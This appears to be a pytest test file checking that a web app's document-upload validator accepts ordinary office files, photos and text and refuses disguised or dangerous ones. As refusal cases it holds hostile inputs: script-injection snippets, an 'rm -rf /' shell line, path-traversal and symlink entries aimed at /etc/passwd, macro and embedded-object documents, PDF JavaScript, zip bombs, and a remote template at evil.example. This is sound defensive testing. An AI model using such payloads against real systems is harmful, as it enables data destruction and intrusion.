"""Files that groups keep: told apart by content, held to their name, and refused with a reason."""

import io
import os
import re
import time
import zipfile

import pytest

from tests.core.test_files import CANARY as PLACE
from tests.core.test_files import photo
from tests.shelf.makers import CANARY, PDF, TEXT, box, docx, odt
from webapp.core import papers
from webapp.core.files import FileFault, NotTaken
from webapp.core.papers import PaperKind, paper

XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("a.pdf", PDF, PaperKind.PDF),
        ("A.PDF", PDF, PaperKind.PDF),
        ("php.php.pdf", PDF, PaperKind.PDF),
        ("foto.jpeg", photo(), PaperKind.JPG),
        ("foto.png", photo("PNG"), PaperKind.JPG),
        ("foto.webp", photo("WEBP"), PaperKind.JPG),
        ("a.docx", docx(), PaperKind.DOCX),
        ("a.xlsx", box(XLSX), PaperKind.XLSX),
        ("a.odt", odt(), PaperKind.ODT),
        ("a.txt", TEXT, PaperKind.TXT),
        ("a.csv", "naam;uur\nDe Sluis;14\n".encode("utf-16-le").replace(b"\0", b""), PaperKind.CSV),
    ],
)
def test_what_groups_use_is_taken(name: str, data: bytes, kind: PaperKind) -> None:
    assert paper(name, data).kind is kind


@pytest.mark.parametrize(
    ("name", "data", "fault"),
    [
        ("leeg.pdf", b"", FileFault.MISSING),
        ("verslag.pdf", docx(), FileFault.FALSE_NAME),
        ("verslag.docx", PDF, FileFault.FALSE_NAME),
        ("foto.jpg", PDF, FileFault.FALSE_NAME),
        ("verslag.docx", odt(), FileFault.FALSE_NAME),
        ("verslag", PDF, FileFault.FALSE_NAME),
        ("pagina.txt", b"<html><script>alert(1)</script>", FileFault.FALSE_NAME),
        ("pagina.csv", b"  <svg xmlns='x' onload='alert(1)'/>", FileFault.FALSE_NAME),
        ("script.txt", b"#!/bin/sh\nrm -rf /", FileFault.FALSE_NAME),
        ("bin.txt", b"MZ\x90\x00\x03", FileFault.FALSE_NAME),
        ("tekening.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", FileFault.NO_PAPER),
        ("pagina.html", b"<html></html>", FileFault.NO_PAPER),
        ("programma.exe", b"MZ\x90\x00", FileFault.NO_PAPER),
        ("doos.zip", box({"a.txt": TEXT}), FileFault.NO_PAPER),
        ("dia.odp", box({"mimetype": b"application/vnd.oasis.opendocument.presentation"}), FileFault.NO_PAPER),
        ("half.docx", docx()[:-30], FileFault.BROKEN),
        ("staart.docx", docx() + b"<script>", FileFault.BROKEN),
        ("buiten.docx", docx(**{"..__..__etc__passwd": b"x"}), FileFault.BROKEN),
        ("macro.docx", docx(word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"}), FileFault.MACROS),
        ("macro.docx", docx(**{"[Content_Types].xml": b"<x macroEnabled/>"}), FileFault.MACROS),
        ("object.docx", docx(**{"word__embeddings__oleObject1.bin": b"x"}), FileFault.MACROS),
        ("basic.odt", box({"mimetype": papers.TYPES[PaperKind.ODT].encode(), "Basic/x.xml": b"x"}), FileFault.MACROS),
        ("js.pdf", b"%PDF-1.7\n/S /JavaScript /JS (x)\n%%EOF", FileFault.RUNS),
    ],
)
def test_anything_else_is_refused_and_says_why(name: str, data: bytes, fault: FileFault) -> None:
    with pytest.raises(NotTaken) as refused:
        paper(name, data)
    assert refused.value.fault is fault


@pytest.mark.parametrize(
    "far",
    [
        b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        b'<Relationship TargetMode = "External" Target="https://evil.example/t.dotm" Type="x/attachedTemplate"/>',
    ],
)
def test_a_template_that_is_fetched_elsewhere_is_refused(far: bytes) -> None:
    with pytest.raises(NotTaken) as refused:
        paper("a.docx", docx(**{"word___rels__settings.xml.rels": far}))
    assert refused.value.fault is FileFault.MACROS


@pytest.mark.parametrize(
    "parts",
    [
        {"word/media/groot.bmp": b"\0" * 3_000_000},
        {f"word/{number}.xml": b"" for number in range(papers.MOST_PARTS)},
    ],
    ids=["a few bytes that become millions", "thousands of parts"],
)
def test_a_box_that_becomes_far_too_large_is_not_opened(parts: dict[str, bytes]) -> None:
    with pytest.raises(NotTaken) as refused:
        paper("a.docx", docx(**{name.replace("/", "__"): data for name, data in parts.items()}))
    assert refused.value.fault is FileFault.UNPACKS_LARGE


def test_a_part_that_is_a_link_is_refused() -> None:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as made:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    with pytest.raises(NotTaken) as refused:
        paper("a.docx", target.getvalue())
    assert refused.value.fault is FileFault.BROKEN


def test_a_part_that_says_it_is_smaller_than_it_is_is_refused() -> None:
    data = bytearray(docx(**{"word__veel.xml": b"\0" * 40_000}))
    size = (40_000).to_bytes(4, "little")
    assert data.count(size) >= 2
    with pytest.raises(NotTaken) as refused:
        paper("a.docx", bytes(data).replace(size, (10).to_bytes(4, "little")))
    assert refused.value.fault is FileFault.BROKEN


def test_where_a_photo_was_taken_is_left_behind() -> None:
    assert PLACE.encode() in photo()
    assert PLACE.encode() not in paper("foto.jpg", photo()).content


def test_whoever_brings_an_office_file_hears_whose_names_stand_in_it() -> None:
    assert paper("a.docx", docx()).authors == (CANARY, "Ann & Jo")
    assert paper("a.odt", odt()).authors == ()


def test_a_text_is_kept_in_letters_that_everybody_reads() -> None:
    assert paper("a.txt", "é €".encode("cp1252")).content == "é €".encode()
    assert paper("a.csv", b"\xef\xbb\xbfnaam").content == b"naam"


def test_a_list_of_templates_without_end_costs_no_time() -> None:
    endless = docx(**{"word___rels__settings.xml.rels": b"attachedTemplate" * 60_000, "x": os.urandom(20_000)})
    started = time.process_time()
    assert paper("a.docx", endless).kind is PaperKind.DOCX
    assert time.process_time() - started < 1


def _says_that_it_lies_elsewhere() -> bytes:
    data = bytearray(docx())
    data[-6:-2] = (int.from_bytes(data[-6:-2], "little") + 2).to_bytes(4, "little")
    return bytes(data)


def _packed_in_no_way() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_LZMA) as made:
        for name, content in XLSX.items():
            made.writestr(name, content * 50)
    return re.sub(rb"\x09\x04\x05\x00..", b"\x09\x04\x05\x00\xff\xff", target.getvalue(), flags=re.DOTALL)


@pytest.mark.parametrize("data", [_says_that_it_lies_elsewhere(), _packed_in_no_way()], ids=["elsewhere", "in no way"])
def test_a_damaged_box_is_refused_as_damaged(data: bytes) -> None:
    with pytest.raises(NotTaken) as refused:
        paper("a.docx", data)
    assert refused.value.fault is FileFault.BROKEN
